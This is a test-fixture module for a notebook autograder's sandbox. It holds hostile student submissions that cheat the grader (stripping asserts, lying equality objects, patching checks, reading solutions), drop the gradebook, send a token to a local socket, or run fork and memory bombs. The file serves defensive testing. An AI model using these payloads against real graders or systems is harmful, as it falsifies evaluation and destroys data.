"""Hostile and malformed submissions of chapter 1, each with the grade it must get.

Most payloads sit in the ``mle_prob`` answer cell next to a WRONG ``mle_prob``: if the
attack worked, the wrong answer would score; it must not.  Others sit next to the
reference answer: the attack must cost nothing but its own exercise, or nothing at all.
``build(course)`` returns ``{student: (notebook or bytes, Expect)}``; paths an attacker
would aim at (the gradebook, the solutions, other submissions) are those of ``course``.
"""
from __future__ import annotations

import copy
import csv
import json
import os
import socket
import subprocess
import sys
import threading
import uuid
import zipfile
import dataclasses
from dataclasses import dataclass, field
from pathlib import Path

from tests import fixtures_ch01
from autograde.sandbox import bubblewrap_works
from tests.submissions import ROOT, answer_sources, course_copy, filled, load, student_notebook

A = "ch01_ngrams"
MLE = "mle_prob_tests"

WRONG_MLE = '''
def mle_prob(grams, counts, queries):
    return np.full(len(queries), 0.5)
'''


@dataclass
class Expect:
    lose: tuple[str, ...] = ()          # tests scored 0; every other test gets its points
    status: str | None = None          # submission status, when it matters
    not_graded: str | None = None      # validation code of an ungraded submission
    problem: str | None = None         # a word the problems column must contain
    everything: bool = False           # all tests lost (untouched notebook)


@dataclass
class Attack:
    name: str
    code: str
    wrong: bool = True                  # next to WRONG_MLE (True) or the reference (False)
    expect: Expect = field(default_factory=Expect)


def _ref(gid: str = "mle_prob") -> str:
    return answer_sources(A)[gid]


def attacks(course: Path, token: str, port: int) -> list[Attack]:
    gradebook = course / "autograde" / "gradebook.db"
    solution = course / "solutions" / A / f"{A}.ipynb"
    other = course / "autograde" / "submitted" / "reference" / A / f"{A}.ipynb"
    lose = Expect(lose=(MLE,))
    return [
        Attack("ipython-input-transformer", '''
ip = get_ipython()
def _swallow(lines):
    return ["try:\\n"] + ["    " + ln for ln in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
ip.input_transformers_cleanup.append(_swallow)
''', expect=lose),
        Attack("ast-transformer-drops-asserts", '''
import ast
class _NoAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAssert())
''', expect=lose),
        Attack("lying-eq-array-subclass", '''
class _Yes(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, *a, **k):
        return np.ones(1, bool)
def mle_prob(grams, counts, queries):
    return np.zeros(len(queries)).view(_Yes)
''', expect=lose),
        Attack("lying-eq-object", '''
class _Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __len__(self): return 200
    def __float__(self): return 0.0
def mle_prob(grams, counts, queries):
    return _Always()
''', expect=lose),
        Attack("patch-numpy-comparisons", '''
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
''', expect=lose),
        Attack("patch-course-checks", '''
import rnncourse.checks.core as _core
import rnncourse.checks.ch01 as _c1
_core.check_close = lambda *a, **k: None
_core.check_equal = lambda *a, **k: None
_core.CheckFailed = type("CheckFailed", (Exception,), {})
for _n in dir(_c1):
    if _n.startswith("check_"):
        setattr(_c1, _n, lambda *a, **k: print("✔ all checks passed"))
checks = _c1
''', expect=lose),
        Attack("fake-hidden-module", '''
import sys, types
for _name in ("autograde", "autograde.hidden", "autograde.hidden.ch01"):
    _m = types.ModuleType(_name)
    _m.__getattr__ = lambda n: (lambda *a, **k: None)
    sys.modules[_name] = _m
''', expect=lose),
        Attack("rewrite-gradebook", f'''
import sqlite3
try:
    _db = sqlite3.connect({str(gradebook)!r})
    _db.execute("UPDATE grade SET auto_score = 0")
    _db.execute("DROP TABLE grade")
    _db.commit()
except Exception as exc:
    print("gradebook:", exc)
try:
    open({str(gradebook)!r}, "wb").write(b"gone")
except Exception as exc:
    print("gradebook file:", exc)
''', wrong=False),
        Attack("read-solutions", f'''
import json
try:
    _nb = json.load(open({str(solution)!r}))
    _code = [''.join(c["source"]) for c in _nb["cells"] if c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "mle_prob"][0]
    exec(_code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
except Exception as exc:
    print("solutions:", exc)
''', expect=lose),
        Attack("import-reference-and-hidden", f'''
import sys
sys.path.insert(0, {str(course)!r})
sys.path.insert(0, {str(ROOT)!r})
try:
    from autograde.reference.ch01 import mle_prob
except Exception as exc:
    print("reference:", exc)
''', expect=lose),
        Attack("read-other-submission", f'''
import json
try:
    _nb = json.load(open({str(other)!r}))
    for _c in _nb["cells"]:
        if "def mle_prob" in ''.join(_c["source"]):
            exec(''.join(_c["source"]))
except Exception as exc:
    print("other submission:", exc)
''', expect=lose),
        Attack("network-exfiltration", f'''
import socket
try:
    _s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    _s.sendall(b"{token}")
    _s.close()
    exec({_ref()!r})        # only a reachable grader machine would get the points
except OSError as exc:
    print("network:", exc)
''', expect=lose),
        Attack("write-outside-scratch", f'''
import os, pathlib
for _p in [{str(course / ("pwned-" + token))!r}, "/tmp/pwned-{token}", {str(ROOT / ("pwned-" + token))!r},
           os.path.expanduser("~/../pwned-{token}"), "/pwned-{token}"]:
    try:
        pathlib.Path(_p).write_text("x")
    except Exception as exc:
        print("write", _p, exc)
''', wrong=False),
        Attack("os-exit", "import os\nos._exit(0)", wrong=False, expect=Expect(lose=(MLE,), status="crash")),
        # the sandbox's parent is its init process, which it may not signal (EPERM)
        Attack("kill-parent", "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
               "except OSError as exc:\n    print(exc)", wrong=False),
        # kill(-1) reaches only the sandbox's own processes: there are none but itself
        Attack("kill-everything", "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\n"
               "except OSError as exc:\n    print(exc)", wrong=False),
        Attack("segfault", "import ctypes\nctypes.string_at(0)", wrong=False,
               expect=Expect(lose=(MLE,), status="crash")),
        Attack("loop-ignoring-interrupts", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
               "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass", wrong=False,
               expect=Expect(lose=(MLE,), status="timeout")),
        Attack("loop-inside-the-function", '''
def mle_prob(grams, counts, queries):
    while True:
        pass
''', expect=Expect(lose=(MLE,), status="timeout")),
        Attack("fork-bomb", '''
import os, time
try:
    for _ in range(100000):
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
except OSError as exc:
    print("fork:", exc)
''', wrong=False),
        Attack("memory-bomb", '''
try:
    _hog = bytearray(64 * 2**30)
except MemoryError:
    print("memory: refused")
try:
    _hog = np.ones((8, 2**30))
except MemoryError:
    print("memory: refused")
''', wrong=False),
        Attack("print-flood", 'print("x" * 50_000_000)\nimport sys\nsys.stderr.write("y" * 10_000_000)', wrong=False),
        Attack("warnings-on-every-call", '''
import warnings, sys
_mle_ok = mle_prob
def mle_prob(grams, counts, queries):
    warnings.warn("this is deprecated", UserWarning)
    warnings.warn("and this too", DeprecationWarning)
    sys.stderr.write("noise on stderr\\n")
    return _mle_ok(grams, counts, queries)
''', wrong=False),
        Attack("disk-filler", '''
for _i in range(200):
    with open(f"big{_i}.bin", "wb") as _f:
        _f.write(b"\\0" * 20_000_000)
''', wrong=False, expect=Expect(lose=(MLE,), status="crash")),
        Attack("garbage-into-the-grader-channel", '''
def mle_prob(grams, counts, queries):
    import os
    for fd in range(0, 256):
        try:
            os.write(fd, b"\\xff" * 64)
        except OSError:
            pass
    return np.zeros(len(queries))
''', expect=lose),
        Attack("system-exit-in-the-function", '''
def mle_prob(grams, counts, queries):
    raise SystemExit(0)
''', expect=lose),
        Attack("huge-return-value", '''
def mle_prob(grams, counts, queries):
    return np.zeros(40_000_000)
''', expect=lose),
    ]


def _set_source(nb: dict, gid: str, source: str) -> dict:
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid:
            cell["source"] = source
    return nb


def malformed() -> dict[str, tuple[object, Expect]]:
    """Damaged notebooks: edited, deleted, duplicated, retyped or renamed cells, stripped
    metadata, broken files and other assignments' notebooks.  As in the attacks, ``sample``
    is left unanswered (:data:`SAMPLE_UNANSWERED`; its hidden check draws ~27,000 tokens and
    none of these aims at it), so each graded one also loses ``sample_tests`` (:func:`build`)."""
    out: dict[str, tuple[object, Expect]] = {}
    nb = without_sample()
    _set_source(nb, "setup", "import numpy as np\nclass checks:\n    def __getattr__(self, n):\n        return lambda *a: None\n"
                "checks = checks()\ndef mle_prob(grams, counts, queries):\n    return np.zeros(len(queries))\n")
    out["edited-locked-cell"] = (nb, Expect(problem="locked cell"))
    out["edited-test-cell"] = (_set_source(without_sample({"mle_prob": WRONG_MLE}), MLE, "pass"), Expect(lose=(MLE,)))
    nb = without_sample()
    nb["cells"] = [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "perplexity_tests"]
    out["deleted-test-cell"] = (nb, Expect(problem="restored"))
    nb = without_sample({"mle_prob": WRONG_MLE})
    i = next(i for i, c in enumerate(nb["cells"]) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "mle_prob")
    fixed = copy.deepcopy(nb["cells"][i])
    fixed["source"] = _ref()
    nb["cells"].insert(i + 1, fixed)
    out["duplicated-answer-cell-last-wins"] = (nb, Expect(problem="duplicate-cells"))
    nb = without_sample()
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "mle_prob":
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    out["answer-retyped-to-markdown"] = (nb, Expect(lose=(MLE,)))
    nb = without_sample()
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "perplexity_tests":
            c["cell_type"] = "raw"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    out["test-retyped-to-raw"] = (nb, Expect(problem="restored"))
    nb = without_sample()
    for c in nb["cells"]:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "mle_prob":
            c["metadata"]["nbgrader"]["grade_id"] = "my_own_id"
    out["answer-grade-id-renamed"] = (nb, Expect())
    nb = without_sample()
    for c in nb["cells"]:
        c.get("metadata", {}).pop("nbgrader", None)
    nb["metadata"].pop("nbgrader", None)
    out["metadata-stripped-by-an-editor"] = (nb, Expect(problem="metadata-stripped"))
    out["truncated-json"] = (b'{"cells": [ {"cell_type": "code", ', Expect(not_graded="invalid-json"))
    out["empty-file"] = (b"", Expect(not_graded="invalid-json"))
    out["binary-file"] = (bytes(range(256)) * 4, Expect(not_graded="invalid-json"))
    out["json-but-not-a-notebook"] = (b"[1, 2, 3]", Expect(not_graded="invalid-notebook"))
    nb3 = without_sample()
    nb3["nbformat"] = 3
    out["nbformat-3"] = (nb3, Expect(not_graded="invalid-notebook"))
    out["another-assignments-notebook"] = (load(ROOT / "solutions" / "ch02_rnn" / "ch02_rnn.ipynb"),
                                           Expect(not_graded="wrong-assignment"))
    return out


def honest() -> dict[str, tuple[object, Expect]]:
    """Honest submissions: the reference, a correct alternative, the untouched notebook
    and one planted bug per answer cell (fixtures_ch01.BUGS): each must be graded as if
    it were alone in the class."""
    out = {
        "honest-reference": (filled(A), Expect(status="graded")),
        "honest-alternative": (filled(A, fixtures_ch01.ALTERNATIVES), Expect(status="graded")),
        "honest-untouched": (student_notebook(A), Expect(everything=True, status="graded")),
    }
    for gid, src in fixtures_ch01.BUGS.items():
        out[f"honest-bug-{gid}"] = (filled(A, {gid: src}), Expect(lose=(f"{gid}_tests",), status="graded"))
    return out


def mishaps() -> dict[str, tuple[object, Expect]]:
    """What goes wrong with honest students' files (tests/test_grading.py reads these
    rows): a truncated upload, an old format, another assignment's graded cells, a
    deleted test cell, an answer that kills its process and one that never ends."""
    out: dict[str, tuple[object, Expect]] = {}
    out["badjson"] = (b'{"cells": [ {"cell_type": "code", ', Expect(not_graded="invalid-json"))
    nb3 = copy.deepcopy(filled(A))
    nb3["nbformat"] = 3
    out["oldformat"] = (nb3, Expect(not_graded="invalid-notebook"))
    other = copy.deepcopy(filled(A))
    for cell in other["cells"]:  # graded cells of some other assignment
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta:
            meta["grade_id"] = "ch99_" + meta["grade_id"]
    out["otherassignment"] = (other, Expect(not_graded="wrong-assignment"))
    missing = copy.deepcopy(filled(A))
    missing["cells"] = [c for c in missing["cells"]
                        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "perplexity_tests"]
    out["deletedtest"] = (missing, Expect(problem="restored"))
    out["crasher"] = (filled(A, {"mle_prob": "import os\nos._exit(1)"}), Expect(lose=(MLE,), status="crash"))
    out["looper"] = (filled(A, {"add_k_prob": "while True:\n    pass"}),
                     Expect(lose=("add_k_prob_tests",), status="timeout"))
    return out


# An attack's notebook leaves `sample` unanswered, as a student who has not got there yet would:
# the hidden check of a correct `sample` draws about 27,000 tokens (some 5 s of each grading), no
# attack is aimed at it, and its test is then one more that must score exactly 0.
SAMPLE_UNANSWERED = "def sample(next_probs, prefix, length, temperature, rng):\n    raise NotImplementedError()\n"


def without_sample(replace: dict[str, str] | None = None) -> dict:
    """The reference answers with ``sample`` unanswered, some others replaced."""
    return filled(A, {"sample": SAMPLE_UNANSWERED, **(replace or {})})


def _plus_sample(expect: Expect) -> Expect:
    if expect.everything or expect.not_graded:
        return expect
    return dataclasses.replace(expect, lose=tuple(expect.lose) + ("sample_tests",))


def build(course: Path, token: str, port: int) -> dict[str, tuple[object, Expect]]:
    subs = dict(honest())
    for atk in attacks(course, token, port):
        body = (WRONG_MLE if atk.wrong else _ref()) + "\n" + atk.code.strip() + "\n"
        subs[f"attack-{atk.name}"] = (without_sample({"mle_prob": body}), _plus_sample(atk.expect))
    subs.update({f"broken-{k}": (nb, _plus_sample(e) if isinstance(nb, dict) else e) for k, (nb, e) in malformed().items()})
    subs.update(mishaps())
    return subs


def as_bytes(nb: object) -> bytes:
    return nb if isinstance(nb, bytes) else json.dumps(nb).encode()


# --------------------------------------------------------------------------- the class, graded once
ENV = {"RNNCOURSE_MODE": "fast", "RNNCOURSE_CELL_TIMEOUT": "15", "RNNCOURSE_TEST_TIMEOUT": "30",
       "RNNCOURSE_SCRATCH_BYTES": str(200 * 2**20)}


class Listener:
    """A TCP server on the grading machine that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(1000) or b"<connected>")
            except OSError:
                self.received.append(b"<connected>")
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(5)
        self.sock.close()


def grade_class(tmp: Path) -> dict:
    """Grade every submission of :func:`build` in ONE batch with two workers, as an
    instructor would (``python -m autograde run`` on a Canvas export), while a TCP server
    on this machine records any connection.  Returns the course copy, the submissions,
    the CSV rows by student, the command's output, the attack token and the listener."""
    ok, why = bubblewrap_works()
    assert ok, f"these tests need bubblewrap (apt-get install bubblewrap; `make test` installs it): {why}"
    course = course_copy(tmp)
    token = uuid.uuid4().hex[:12]
    listener = Listener()
    subs = build(course, token, listener.port)
    archive = tmp / "export.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for i, (sid, (nb, _)) in enumerate(subs.items()):
            zf.writestr(f"{sid}_{1000 + i}_{5000 + i}_{A}.ipynb", as_bytes(nb))
    proc = subprocess.run([sys.executable, "-m", "autograde", "run", A, str(archive), "--workers", "2"], cwd=course,
                          capture_output=True, text=True, timeout=3000, env={**os.environ, **ENV})
    listener.close()
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    with open(course / "autograde" / f"grades_{A}.csv", newline="") as fh:
        rows = {r["student_id"]: r for r in csv.DictReader(fh)}
    return {"course": course, "subs": subs, "rows": rows, "out": proc.stdout, "token": token,
            "listener": listener, "tmp": tmp}
